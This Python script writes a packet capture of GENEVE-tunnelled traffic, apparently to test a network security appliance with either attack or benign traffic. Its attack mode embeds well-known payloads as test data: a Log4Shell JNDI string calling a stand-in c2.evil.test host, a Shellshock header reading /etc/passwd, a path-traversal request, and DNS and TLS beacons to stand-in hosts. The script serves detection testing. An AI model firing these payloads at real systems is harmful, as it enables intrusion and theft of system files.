#!/usr/bin/env python3
"""Writes a capture of what an appliance's interface sees: well-known attacks, or traffic of good people, in GENEVE with a Gateway Load
Balancer's options, both directions from different outer ports.

    make_pcap.py attacks|peace <file> <certificate> <key>"""

import ipaddress
import socket
import ssl
import struct
import sys

CLIENT, SERVER = "10.50.0.10", "198.51.100.10"
BALANCER, APPLIANCE = "10.30.1.20", "10.30.1.10"


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source, destination, protocol, payload):
    header = struct.pack(
        "!BBHHHBBH4s4s",
        *(0x45, 0, 20 + len(payload), 0, 0x4000, 64, protocol, 0),
        *(ipaddress.ip_address(source).packed, ipaddress.ip_address(destination).packed),
    )
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def udp(source_port, destination_port, payload):
    return struct.pack("!HHHH", source_port, destination_port, 8 + len(payload), 0) + payload


class Capture:
    def __init__(self, path):
        self.file = open(path, "wb")
        self.file.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
        self.milliseconds = 1_790_000_000_000
        self.port = 40000

    def add(self, inner, outer_port):
        options = struct.pack("!HBBQHBBQHBBI", 0x108, 1, 2, 0x0A1B2C3D4E5F6071, 0x108, 2, 2, 7, 0x108, 3, 1, outer_port)
        geneve = struct.pack("!BBHI", len(options) // 4, 0, 0x0800, 0) + options + inner
        frame = b"\x02" * 12 + b"\x08\x00" + ip(BALANCER, APPLIANCE, 17, udp(outer_port, 6081, geneve))
        self.milliseconds += 1
        seconds, rest = divmod(self.milliseconds, 1000)
        self.file.write(struct.pack("<IIII", seconds, rest * 1000, len(frame), len(frame)) + frame)

    def datagram(self, port, payload):
        self.port += 1
        self.add(ip(CLIENT, SERVER, 17, udp(self.port, port, payload)), 60001)

    def conversation(self, port, *turns):
        """One TCP connection, of what the client says, the server answers, and so on."""
        self.port += 1
        ends = {True: [CLIENT, self.port, 1000], False: [SERVER, port, 5000]}

        def segment(by_client, flags, payload=b""):
            source, source_port, sequence = ends[by_client]
            destination, destination_port, acknowledged = ends[not by_client]
            header = struct.pack(
                "!HHIIBBHHH", source_port, destination_port, sequence, acknowledged, 0x50, flags, 65535, 0, 0
            )
            pseudo = socket.inet_aton(source) + socket.inet_aton(destination)
            pseudo += struct.pack("!BBH", 0, 6, len(header) + len(payload))
            total = checksum(pseudo + header + payload)
            packet = header[:16] + struct.pack("!H", total) + header[18:] + payload
            self.add(ip(source, destination, 6, packet), 60002 if by_client else 60003)
            ends[by_client][2] += len(payload) + bool(flags & 0x03)

        for by_client, flags in ((True, 0x02), (False, 0x12), (True, 0x10)):
            segment(by_client, flags)
        by_client = True
        for turn in turns:
            for at in range(0, len(turn), 1400):
                segment(by_client, 0x18, turn[at : at + 1400])
            segment(not by_client, 0x10)
            by_client = not by_client
        for by_client, flags in ((True, 0x11), (False, 0x11), (True, 0x10)):
            segment(by_client, flags)


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def handshake(name, certificate, key):
    """What both sides of a TLS connection say, in turns."""
    server = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    server.load_cert_chain(certificate, key)
    client = ssl.create_default_context()
    client.check_hostname, client.verify_mode = False, ssl.CERT_NONE
    buffers = [ssl.MemoryBIO() for _ in range(4)]
    sides = [
        client.wrap_bio(buffers[0], buffers[1], server_hostname=name),
        server.wrap_bio(buffers[2], buffers[3], server_side=True),
    ]
    turns, done = [], set()
    while len(done) < 2:
        for index, side in enumerate(sides):
            try:
                side.do_handshake()
                done.add(index)
            except ssl.SSLWantReadError:
                pass
            said = buffers[1 + 2 * index].read()
            if said:
                turns.append(said)
                buffers[2 - 2 * index].write(said)
    return turns


def request(path, **headers):
    lines = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in headers.items())
    return f"GET {path} HTTP/1.1\r\nHost: shop.example.test\r\n{lines}\r\n".encode()


def response(text):
    return f"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {len(text)}\r\n\r\n{text}".encode()


kind, path, certificate, key = sys.argv[1:]
capture = Capture(path)
if kind == "attacks":
    capture.conversation(80, request("/", User_Agent="${jndi:ldap://c2.evil.test/a}"), response("ok"))
    capture.conversation(80, request("/cgi-bin/status", X_Test="() { :;}; /bin/cat /etc/passwd"), response("ok"))
    traversal = request("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", User_Agent="curl/8")
    capture.conversation(8080, traversal, response("root:x:0:0:root:/root:/bin/bash\n"))
    capture.datagram(53, question("beacon.evil.test"))
    capture.conversation(443, *handshake("c2.evil.test", certificate, key))
else:
    capture.conversation(80, request("/", User_Agent="curl/8"), response("welcome"))
    capture.datagram(53, question("shop.example.test"))
    capture.conversation(443, *handshake("shop.example.test", certificate, key))
